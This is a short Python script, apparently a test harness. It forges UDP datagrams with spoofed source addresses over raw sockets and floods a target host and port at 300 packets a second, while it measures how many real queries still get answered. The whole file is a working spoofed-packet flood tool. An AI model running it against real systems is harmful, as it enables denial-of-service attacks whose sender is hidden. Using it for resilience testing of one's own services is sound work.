"""Forges datagrams from neighbours that do not exist, and asks as one that does: needs root, and Linux.

Usage: python3 absent_neighbours.py HOST PORT SOURCES SECONDS FIRST_SOURCE

Asks 20 times a second, from two seconds before the attack on. While it lasts, sends
300 datagrams a second, each from the next of SOURCES addresses that begin with
FIRST_SOURCE. Prints how many questions fell into the attack, and how many of them
were answered.
"""

import ipaddress
import socket
import struct
import sys
import time

host, port, sources, seconds, first = sys.argv[1:]
port, sources, seconds = int(port), int(sources), float(seconds)
to = ipaddress.ip_address(host)
first = int(ipaddress.ip_address(first))
family = socket.AF_INET if to.version == 4 else socket.AF_INET6

raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
client = socket.socket(family, socket.SOCK_DGRAM)
client.connect((host, port))
client.setblocking(False)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total & 0xFFFF) or 0xFFFF


def forged(i):
    source = type(to)(first + i % sources).packed
    payload = b"forged %d" % i
    length = 8 + len(payload)
    pseudo = source + to.packed + struct.pack("!HH", socket.IPPROTO_UDP, length)
    udp = struct.pack("!HHH", 40000, port, length)
    udp += struct.pack("!H", checksum(pseudo + udp + payload)) + payload
    if to.version == 4:
        # The kernel fills in the length, the identification and the checksum.
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0)
    else:
        ip = struct.pack("!IHBB", 6 << 28, length, socket.IPPROTO_UDP, 64)
    return ip + source + to.packed + udp


def hear():
    while True:
        try:
            answered.add(client.recv(100))
        except BlockingIOError:
            return


start = time.monotonic() + 2
end = start + seconds
asked = set()
answered = set()
i = sent = 0
while (now := time.monotonic()) < end + 0.5:
    if now < end and now >= start - 2 + i / 20:
        question = b"question %d" % i
        client.send(question)
        if now >= start:
            asked.add(question)
        i += 1
    while start + sent / 300 <= now < end:
        raw.sendto(forged(sent), (host, 0))
        sent += 1
    hear()
    time.sleep(0.001)
print(len(asked), len(asked & answered))
